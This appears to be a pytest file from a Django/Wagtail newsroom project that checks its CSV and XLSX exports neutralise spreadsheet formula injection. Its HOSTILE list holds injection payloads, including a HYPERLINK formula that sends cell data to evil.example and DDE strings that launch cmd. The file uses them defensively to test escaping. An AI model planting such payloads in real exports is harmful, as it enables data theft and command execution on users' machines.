"""No export of ours or of Wagtail's holds a formula: CSV cells that a spreadsheet would
run start with an apostrophe, .xlsx cells that look like formulas are stored as text."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rongmei.core.exports import csv_safe
from rongmei.core.tests.helpers import work_in
from rongmei.notices.services import notice_create
from rongmei.outreach.exports import board_workbook
from rongmei.programmes.exports import rundown_csv
from rongmei.programmes.models import RundownItem
from rongmei.proofing.transfer import to_xlsx
from rongmei.reporting.exports import Table, stats_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_would_run_are_quoted(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["城区停电通知", "1+1", "a=b", 12, -3, 1.5, None, ""])
def test_other_cells_are_left_alone(value):
    assert csv_safe(value) == value


def test_rundown_csv_quotes_what_staff_typed():
    items = [
        RundownItem(position=1, title=HOSTILE[0], duration_seconds=60, presenter_notes=HOSTILE[3])
    ]
    rows = list(csv.reader(io.StringIO(rundown_csv(episode=None, items=items).decode("utf-8-sig"))))
    assert rows[1][2] == "'" + HOSTILE[0]
    assert rows[1][5] == "'" + HOSTILE[3]
    assert rows[1][4] == "60"


@pytest.fixture
def hostile_notice(client, center, make_user):
    work_in(client, make_user(center, "editor", username="ed-x"), center)
    return notice_create(
        by=None,
        center=center,
        date=dt.date(2021, 6, 1),
        category="power",
        title=HOSTILE[0],
        body=HOSTILE[1],
    )


@pytest.mark.django_db
def test_wagtail_listing_csv_export_quotes_cells(client, hostile_notice):
    response = client.get(reverse("notices:index") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][2:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]


@pytest.mark.django_db
def test_wagtail_listing_xlsx_export_stores_text(client, hostile_notice):
    response = client.get(reverse("notices:index") + "?export=xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    title = ws.cell(row=2, column=3)
    assert (title.value, title.data_type) == (HOSTILE[0], "s")


def _text_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return {
        cell.value: cell.data_type
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    }


def test_statistics_workbook_writes_text_not_formulas():
    doc = {"period": {"start": "2021-06-01", "end": "2021-06-30"}, "center": {"name": "示范县"}}
    table = Table("top", "阅读量最高的发布", ["名次", "标题"], [[1, HOSTILE[0]]])
    assert _text_cells(stats_workbook(doc, [table])) == {HOSTILE[0]: "s"}


def test_lexicon_workbook_writes_text_not_formulas():
    data = to_xlsx("sensitive", [["=1+1", "", "", "", ""]], "词库")
    assert _text_cells(data) == {"=1+1": "s"}


@pytest.mark.django_db
def test_outreach_board_workbook_writes_text_not_formulas(center):
    data = {
        "totals": {"adoptions": 0, "front_page": 0, "front_page_headline": 0},
        "submission_count": 0,
        "target_count": 0,
        "by_level": [],
        "adoptions": [],
        "by_outlet": [
            {
                "outlet": HOSTILE[0],
                "parent": "",
                "level": "县级",
                "adoptions": 1,
                "front_page": 0,
                "front_page_headline": 0,
            }
        ],
        "submissions": [],
    }
    workbook = board_workbook(
        center=center, start=dt.date(2021, 6, 1), end=dt.date(2021, 6, 30), data=data
    )
    assert _text_cells(workbook) == {HOSTILE[0]: "s"}
